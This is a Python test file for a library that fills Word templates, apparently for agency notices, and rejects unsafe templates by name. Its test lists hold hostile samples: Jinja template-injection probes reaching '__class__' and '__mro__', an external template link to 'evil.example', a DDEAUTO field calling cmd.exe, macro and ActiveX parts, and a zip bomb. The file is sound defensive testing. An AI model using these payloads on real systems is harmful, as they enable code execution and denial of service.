"""An agency's own Word template prints values and nothing else; what is unfit is told by name."""

from __future__ import annotations

import zipfile
from io import BytesIO
from typing import Any

import pytest
from docx import Document

from bihuan.kit.documents import text_of
from bihuan.kit.typeset import Unfit, fields_in, fill
from tests.kit.typeset.papers import AT

SHAPE: dict[str, tuple[str, ...] | None] = {
    "title": None,
    "number": None,
    "items": ("name", "due"),
}
VALUES = {
    "title": "关于<整改>&通知",
    "number": "某疾控发〔2026〕7号",
    "items": [{"name": "甲项", "due": "5日"}, {"name": "乙项 {{ title }}", "due": "6日"}],
}


def word(*lines: str) -> bytes:
    """A template with these lines."""
    file = Document()
    for line in lines:
        file.add_paragraph(line)
    out = BytesIO()
    file.save(out)
    return out.getvalue()


def with_part(raw: bytes, name: str, content: bytes) -> bytes:
    """The same package with a part added or put in place of another."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(raw)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        new.writestr(name, content)
    return out.getvalue()


def test_values_stand_where_the_template_names_them() -> None:
    raw = word(
        "{{ title }}（{{ number }}）",
        "{%p for one in items %}",
        "{{ loop.index }}. {{ one.name }}，{{ one.due }}",
        "{%p endfor %}",
        "{% if number %}已编号{% endif %}",
    )
    said = text_of("a.docx", fill(raw, VALUES, SHAPE, at=AT))
    assert said.splitlines() == [
        "关于<整改>&通知（某疾控发〔2026〕7号）",
        "1. 甲项，5日",
        "2. 乙项 {{ title }}，6日",
        "已编号",
    ]
    assert fields_in(raw, SHAPE, at=AT) == {"title", "number", "items"}
    assert fill(raw, VALUES, SHAPE, at=AT) == fill(raw, VALUES, SHAPE, at=AT)


@pytest.mark.parametrize(
    ("line", "code", "about"),
    [
        ("{{ titel }}", "unknown_name", {"name": "titel"}),
        (
            "{% for one in items %}{{ one.price }}{% endfor %}",
            "unknown_name",
            {"name": "one.price"},
        ),
        ("{{ title.upper }}", "unknown_name", {"name": "title.upper"}),
        ("{{ title.__class__ }}", "unknown_name", {"name": "title.__class__"}),
        ("{{ ''.__class__.__mro__ }}", "not_allowed", {"what": "__mro__"}),
        ("{{ title['__class__'] }}", "not_allowed", {"what": "Getitem"}),
        ("{{ title.format(1) }}", "not_allowed", {"what": "Call"}),
        ("{{ range(9) }}", "not_allowed", {"what": "Call"}),
        (
            "{% for a in items %}{% for b in items %}x{% endfor %}{% endfor %}",
            "not_allowed",
            {"what": "for"},
        ),
        ("{{ 'x' * 999999999 }}", "not_allowed", {"what": "Mul"}),
        ("{% include 'a' %}", "not_allowed", {"what": "Include"}),
        ("{% set a = 1 %}", "not_allowed", {"what": "Assign"}),
        ("{{ title|attr('x') }}", "not_allowed", {"what": "attr"}),
        ("{{ title|safe }}", "not_allowed", {"what": "safe"}),
        ("{{ self }}", "unknown_name", {"name": "self"}),
        ("{{ title ", "bad_syntax", None),
        ("{% if title %}", "bad_syntax", None),
    ],
)
def test_a_template_that_does_more_is_unfit_and_told_by_name(
    line: str, code: str, about: dict[str, Any] | None
) -> None:
    with pytest.raises(Unfit) as told:
        fields_in(word("好", line), SHAPE, at=AT)
    assert told.value.code == code
    assert about is None or told.value.params == about


def test_code_in_header_footnote_and_properties_is_judged_too() -> None:
    file = Document()
    file.add_paragraph("{{ title }}")
    file.sections[0].header.paragraphs[0].text = "{{ cycler }}"
    file.core_properties.subject = "{{ joiner }}"
    out = BytesIO()
    file.save(out)
    with pytest.raises(Unfit) as told:
        fields_in(out.getvalue(), SHAPE, at=AT)
    assert told.value.params["name"] in {"cycler", "joiner"}


RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
FIELD = b'<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>'


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("word/vbaProject.bin", b"macro", "macro_document"),
        ("word/embeddings/a.bin", b"x", "unwanted_part"),
        ("word/activeX/a.xml", b"<a/>", "unwanted_part"),
        ("word/_rels/settings.xml.rels", RELS, "outside_link"),
        ("word/comments.xml", FIELD, "live_field"),
        ("word/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>', "damaged_file"),
        ("word/big.xml", b"0" * (65 * 1024 * 1024), "zip_bomb"),
        ("word/document.xml", b"<broken", "damaged_file"),
    ],
)
def test_a_package_that_could_do_harm_is_unfit(name: str, content: bytes, code: str) -> None:
    with pytest.raises(Unfit) as told:
        fields_in(with_part(word("{{ title }}"), name, content), SHAPE, at=AT)
    assert told.value.code == code


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04 not a package", b"%PDF-1.7", b"x" * 6_000_000])
def test_what_is_no_word_file_is_unfit(raw: bytes) -> None:
    with pytest.raises(Unfit):
        fields_in(raw, SHAPE, at=AT)
